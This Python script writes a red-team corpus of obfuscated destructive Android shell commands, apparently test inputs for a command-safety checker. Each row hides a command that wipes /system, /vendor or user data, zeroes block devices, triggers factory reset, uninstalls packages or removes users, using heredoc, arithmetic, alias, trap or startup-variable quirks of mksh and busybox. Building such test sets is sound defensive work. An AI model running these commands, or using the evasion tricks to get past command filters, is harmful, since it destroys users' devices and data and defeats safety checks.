#!/usr/bin/env python3
"""Writes corpus.jsonl and pending.jsonl (round 3, attacker r3a: the shell language).

Kept as Python data so that no command text ever passes through a host shell.
Each row: family, cmd, note, and shells + shells_why where a line is proven in one shell only.
"""
import json
import pathlib

HERE = pathlib.Path(__file__).resolve().parent
MK = ["mksh"]
BB = ["busybox"]

ROWS = [
    # ---------------------------------------------------------------- heredoc
    ("heredoc", ": <<EOF\nthis block is a comment: $(rm -rf /system)\nEOF",
     "the `: <<EOF` 'block comment' idiom with an UNQUOTED delimiter: the body is expanded like a double-quoted "
     "string before `:` runs, so the $(...) in the 'comment' deletes /system", None, None),
    ("heredoc", "cat >/dev/null <<EOF\n${A:=MASTER_CLEAR}\nEOF\nam broadcast -a android.intent.action.$A",
     "an assignment made by ${A:=...} inside a here-document body (discarded to /dev/null) persists in the shell "
     "and completes the broadcast action: factory reset", None, None),
    ("heredoc", "cat <<''\nnotes\n\nrm -rf /product",
     "a here-document whose delimiter is the empty string '' ends at the first empty line, so the line after the "
     "blank one is a command, not body", None, None),
    ("heredoc", "cat <<EOF;\nx\nEOF\necho x > /dev/block/by-name/vbmeta\nEOF;",
     "the delimiter is `EOF` (`;` is an operator), not `EOF;`: the body ends at the first `EOF` and the block "
     "write after it runs; the trailing `EOF;` line only fails as a command", None, None),
    ("heredoc", "cat <<EO\\\nF\nbody\nEOF\nrm -rf /system/framework\nEO\\",
     "backslash-newline is removed before the delimiter word is read, so the delimiter is `EOF`, not `EO\\`: the "
     "`rm` after `EOF` runs (the closing `EO\\` line is a failing command)", None, None),
    ("heredoc", "cat <<\nnotes\n<<\nrm -rf /vendor",
     "mksh: `<<` with no marker at all ends the here-document at the next line `<<`; the line after it runs",
     MK, "busybox sh rejects a here-document without a delimiter (syntax error)"),
    ("heredoc", "T=<<EOF\n/data/media/0\nEOF\nrm -rf $T",
     "mksh's `x=<<EOF` extension assigns the here-document body to T (a POSIX reader sees an empty assignment with "
     "an unused redirection); the whole storage is deleted",
     MK, "`NAME=<<EOF` assigning the body is a mksh extension; busybox leaves T empty"),
    ("heredoc", "cat >/dev/null <<END\nold notes `rm -rf /data/user/0/*`\nEND",
     "backquotes inside an unquoted here-document body sent to /dev/null still run: every app's data", None, None),
    # ---------------------------------------------------------------- lexing
    ("lexing", ": $((1<<EOF))\nrm -rf /vendor\nEOF",
     "`<<` inside $((...)) is a shift operator, not a here-document: the `rm` line that looks like body runs "
     "(`EOF` then fails as a command)", None, None),
    ("lexing", "echo hi >/dev/null; rm -rf /data/media/$# #cache",
     "`$#` is the number of positional parameters (0 under sh -c), not a comment start: /data/media/0, the storage",
     None, None),
    ("lexing", "rm -rf /storage/emulated/$((16#0))/*/",
     "`16#0` is a base-16 zero inside arithmetic; the `#` does not start a comment: every storage folder", None, None),
    ("lexing", "((rm -rf /data/system) )",
     "looks like an arithmetic command `(( ))`, but it is two nested subshells (busybox has no `((`; mksh falls back "
     "when the arithmetic does not close with `))`)", None, None),
    ("lexing", "echo $((rm -rf /system) )",
     "looks like an arithmetic expansion, but mksh re-reads `$((cmd) )` as a command substitution of a subshell",
     MK, "busybox sh reports `missing ))` and runs nothing"),
    ("lexing", "rm -rf $(case $# in 0) echo /data/misc;; esac)",
     "the unbalanced `)` of a case pattern inside $(...) does not end the substitution: its output /data/misc is "
     "deleted", None, None),
    ("lexing", "{rm,-rf,/vendor}",
     "looks like a brace group, but in mksh it is brace expansion into three words: `rm -rf /vendor`",
     MK, "busybox sh has no brace expansion (`{rm,-rf,/vendor}: not found`)"),
    ("lexing", "case in in in) rm -rf /data/app;; esac",
     "`in` used as the case word and as the pattern: the branch always runs and deletes /data/app", None, None),
    ("lexing", "for do in /product; do rm -rf $do; done",
     "a loop variable named `do`: the reserved word is only a keyword in command position", None, None),
    # ---------------------------------------------------------------- arith (mksh)
    ("arith", "read n <<'EOF'\nx[$(rm -rf /data/data/*)]\nEOF\n[ \"$n\" -gt 0 ] && echo positive",
     "mksh evaluates the operands of -gt as arithmetic, and the value of n is parsed as an expression whose array "
     "subscript contains a command substitution: the 'data' in a quoted here-document runs and deletes every app",
     MK, "busybox `[` only takes decimal numbers (`bad number`)"),
    ("arith", "X='a[$(rm -rf /vendor)]'; echo ${PATH:X:1}",
     "the offset of ${PATH:X:1} is an arithmetic expression; X's value is evaluated and its subscript runs a "
     "command substitution", MK, "busybox: `arithmetic syntax error`, nothing runs"),
    ("arith", "X='a[$(cmd testharness enable)]'; shift \"$X\"",
     "mksh's shift evaluates its count arithmetically: the command substitution in the subscript enables the test "
     "harness (wipes the device)", MK, "busybox shift takes a decimal number only"),
    ("arith", "X=Y; Y='a[$(rm -rf /data/system)]'; : $((X))",
     "a variable named in arithmetic is evaluated recursively (X -> Y -> Y's text as an expression): the "
     "substitution in the subscript deletes /data/system", MK, "busybox: arithmetic syntax error"),
    # ---------------------------------------------------------------- params
    ("params", "sleep 0 & wait $!; rm -rf /storage/emulated/$?/*",
     "the exit status of the waited-for background job ($? = 0) is the user number in the path: every storage folder",
     None, None),
    ("params", "rm -rf ${PATH%%/bin*}",
     "the longest `/bin*` suffix stripped from PATH (`/product/bin:...`) leaves /product", None, None),
    ("params", "X=/dataxmediax0; IFS=x; set -- $X; IFS=/; rm -rf \"$*\"",
     "split on one IFS, rejoined by \"$*\" with the first character of another: /data/media/0", None, None),
    ("params", "function vendor { rm -rf /$0; }; vendor",
     "in a ksh-style function mksh sets $0 to the function's name: /vendor",
     MK, "busybox keeps $0 as `sh` in functions (the rm gets /sh)"),
    ("params", "vendor(){ rm -rf /$FUNCNAME; }; vendor",
     "busybox sh sets FUNCNAME to the running function's name: /vendor",
     BB, "mksh has no FUNCNAME (toybox rm then refuses `/`)"),
    ("params", "set -- -r -m; getopts rm o; getopts rm p; $o$p -rf /vendor",
     "getopts hands out the option letters r and m, which spell the command name", None, None),
    ("params", "while read d m t _; do [ \"$m\" = /data ] && echo x > \"$d\"; done < /proc/mounts",
     "the block device is computed on the device: the source field of the /data line of /proc/mounts", None, None),
    # ---------------------------------------------------------------- computed (mksh builtins)
    ("computed", "typeset -i36 v=1899056907; rm -rf /${v#36#}",
     "an integer printed in base 36 by typeset -i36 is `36#vendor`; the prefix is stripped",
     MK, "busybox has no typeset (v stays empty; the line then deletes / by accident, not by this technique)"),
    ("computed", "$(print -A 114 109) -rf /data/user/0/*",
     "mksh `print -A` prints the characters with these codes: `rm`", MK, "print is a mksh builtin; busybox has none"),
    ("computed", "echo 'r\\0155 -rf /system' | sh",
     "mksh's echo expands backslash escapes by default (\\0155 is `m`), unlike POSIX/bash echo",
     MK, "busybox echo prints the escape literally"),
    ("computed", "typeset -u A=master_clear; am broadcast -a android.intent.action.$A",
     "typeset -u upper-cases the value: the action is MASTER_CLEAR (factory reset)",
     MK, "busybox has no typeset"),
    ("computed", "read -n 7 X <<EOF\n/vendor-old\nEOF\nrm -rf $X",
     "read -n 7 keeps only the first 7 bytes: /vendor", None, None),
    ("computed", "rm -rf \"$(printf %.7s /vendor.bak)\"",
     "a printf precision (%.7s) truncates the argument to /vendor", None, None),
    # ---------------------------------------------------------------- alias
    ("alias", "alias [='cmd testharness enable #'\n[ -d /sdcard ] && echo ok",
     "`[` is a valid alias name (only `[[` is not): the following test becomes the test-harness command, the "
     "rest a comment", None, None),
    ("alias", "alias :='rm -rf /data/data/*;'\n: nothing to do",
     "the null command `:` aliased: every app's data", None, None),
    ("alias", "alias .='rm -rf /vendor;'\n. /dev/null",
     "the dot command aliased: sourcing /dev/null first deletes /vendor", None, None),
    # ---------------------------------------------------------------- tilde / cd
    ("tilde", "cd /vendor; cd /; rm -rf ~-",
     "`~-` is OLDPWD: /vendor", MK, "busybox sh does not expand ~- (rm gets a literal `~-`)"),
    ("tilde", "cd /dev/block/by-name; mkfs.ext4 ~+/userdata",
     "`~+` is PWD: formats /dev/block/by-name/userdata", MK, "busybox sh does not expand ~+"),
    ("tilde", "alias -d s=/system; rm -rf ~s",
     "mksh directory aliases (`alias -d`) feed tilde expansion: ~s is /system", MK, "busybox has no alias -d"),
    ("tilde", "cd /data/local/tmp && cd local/tmp media/0 && rm -rf *",
     "mksh's two-argument `cd old new` substitutes in PWD: /data/media/0, then everything in it",
     MK, "busybox cd uses only the first operand (local/tmp does not exist)"),
    # ---------------------------------------------------------------- case
    ("case", "case $# in 0) ;& *) echo --wipe_data > /cache/recovery/command;; esac",
     "`;&` falls through into the next branch: the recovery command file asks for a data wipe",
     MK, "busybox sh has no `;&` (syntax error)"),
    ("case", "case x in x) ;| x) rm -rf /vendor;; esac",
     "mksh `;|` continues matching the following patterns", MK, "busybox sh has no `;|`"),
    # ---------------------------------------------------------------- trap
    ("trap", "trap 'cmd testharness enable' ERR; [ -e /data/local/tmp/.done ]",
     "an ERR trap (runs after any failing command): the failed test enables the test harness", None, None),
    ("trap", "trap 'dd if=/dev/zero of=/dev/block/by-name/userdata count=1 2>/dev/null' CHLD; sleep 0 & wait",
     "a CHLD trap fires when the background job ends: zeros userdata", None, None),
    # ---------------------------------------------------------------- scope
    ("scope", "T=/vendor :; rm -rf $T",
     "an assignment before a special builtin (`:`) is not temporary: it persists", None, None),
    ("scope", "T=/data/local/tmp/x; g(){ rm -rf \"$T\"; }; f(){ local T=/vendor; g; }; f",
     "dynamic scoping: g sees f's local T, not the global one", None, None),
    ("scope", "set -a; T=/data/media/0; sh -c 'rm -rf $T/*'",
     "allexport (`set -a`) exports T without an `export`", None, None),
    # ---------------------------------------------------------------- exec
    ("exec", "exec -a rm /system/bin/ls -rf /vendor",
     "`exec -a` sets argv[0]; /system/bin/ls is toybox, which dispatches on argv[0]: this is rm -rf /vendor",
     None, None),
    ("exec", "exec -a rm /system/bin/true -rf /data/data",
     "argv[0] `rm` given to the toybox behind /system/bin/true: every app's data", None, None),
    ("exec", "/???/r? -rf /vendor",
     "a glob in command position: /???/r? matches only /bin/rm", None, None),
    ("exec", "sh |& print -p 'rm -rf /system'; print -p exit; wait",
     "`|&` starts sh as a mksh co-process; `print -p` writes the command to its input",
     MK, "busybox sh has no co-processes (`|&` is a syntax error there)"),
    ("exec", "select d in /data/local/tmp/x /vendor; do rm -rf $d; break; done <<EOF\n2\nEOF",
     "mksh select: the choice `2` read from the here-document picks /vendor", MK, "busybox has no select"),
    # ---------------------------------------------------------------- startup (variables the shell interprets)
    ("startup", "ENV='$(rm -rf /vendor)' sh -i </dev/null",
     "busybox expands ENV (command substitution included) when an interactive shell starts; no file is needed",
     BB, "mksh does not run the substitution in ENV here"),
    ("startup", "PS2='$(rm -rf /vendor)' sh -i <<'X'\nif :\nthen :; fi\nX",
     "the secondary prompt PS2, printed while the `if` is unfinished, is expanded by busybox sh",
     BB, "mksh prints PS2 without expanding it"),
    ("startup", "printf 'rm -rf /vendor\\n' > /data/local/tmp/.profile; HOME=/data/local/tmp sh -l -c :",
     "a login shell (`-l`) reads $HOME/.profile before the command `:`", None, None),
    ("startup", "printf 'rm -rf /system\\n' > /data/local/tmp/tidy; FPATH=/data/local/tmp; tidy",
     "a command not found in PATH is autoloaded from FPATH: the file runs", MK, "busybox has no FPATH"),
    ("startup", "sh -i <<'X' 2>/dev/null\nls -fr /vendor\nr ls=rm\nX",
     "mksh history: `r ls=rm` (alias for fc -e -) re-runs the last command with ls replaced by rm",
     MK, "busybox has no r/fc"),
    # ---------------------------------------------------------------- mksh builtins and substitutions
    ("mksh", "rename /system /data/local/tmp/old",
     "mksh's builtin `rename` (a rename(2) wrapper, used when no external rename exists) moves /system away",
     MK, "busybox sh has no rename"),
    ("mksh", "rm -rf ${ echo /system;}",
     "mksh funsub `${ cmd;}`: command substitution without a fork", MK, "busybox: bad substitution"),
    ("mksh", "cmd ${|REPLY=testharness;} enable",
     "mksh valsub `${|cmd;}` evaluates to REPLY: `cmd testharness enable`", MK, "busybox: bad substitution"),
    # ---------------------------------------------------------------- redirect (busybox)
    ("redirect", "echo x >&/dev/block/by-name/boot",
     "busybox sh reads `>&word` with a non-digit word as a redirection to that file (bash style), not a descriptor "
     "duplication", BB, "mksh rejects `>&/path` (illegal file descriptor name)"),
]

PENDING = [
    ("mass-package", "pm list packages -3 | while IFS=: read _ p; do pm uninstall \"$p\"; done",
     "a prefix IFS=: on read splits `package:NAME`: every third-party package uninstalled (device-computed set)", None, None),
    ("mass-package", "trap 'for p in $(pm list packages | cut -d: -f2); do pm clear $p; done' ERR; false",
     "an ERR trap clears every package's data (device-computed set)", None, None),
    ("mass-package", "cat >/dev/null <<EOF\n${P:=com.google.android.youtube com.android.chrome com.whatsapp com.google.android.gm}\nEOF\nfor p in $P; do pm uninstall $p; done",
     "four packages assigned inside a here-document body sent to /dev/null, then uninstalled", None, None),
    ("mass-package", "set -A p ${ pm list packages -3;}; for x in \"${p[@]}\"; do pm clear \"${x#package:}\"; done",
     "a mksh funsub fills an array from pm list packages: every package cleared", MK, "funsub and set -A are mksh-only"),
    ("user", ": <<EOF\n$(cmd user remove-user 10)\nEOF",
     "user removal inside an unquoted `: <<EOF` comment block", None, None),
    ("user", "X='a[$(pm remove-user 10)]'; [ \"$X\" -eq 0 ]",
     "mksh arithmetic in a test operand runs the substitution in the subscript: removes user 10",
     MK, "busybox `[` takes decimal numbers only"),
]


def dump(rows, path):
    out = []
    for fam, cmd, note, shells, why in rows:
        d = {"family": fam, "cmd": cmd, "note": note}
        if shells:
            d["shells"] = shells
            d["shells_why"] = why
        out.append(json.dumps(d, ensure_ascii=False))
    path.write_text("\n".join(out) + "\n")
    return len(out)


if __name__ == "__main__":
    print(dump(ROWS, HERE / "corpus.jsonl"), "corpus lines")
    print(dump(PENDING, HERE / "pending.jsonl"), "pending lines")
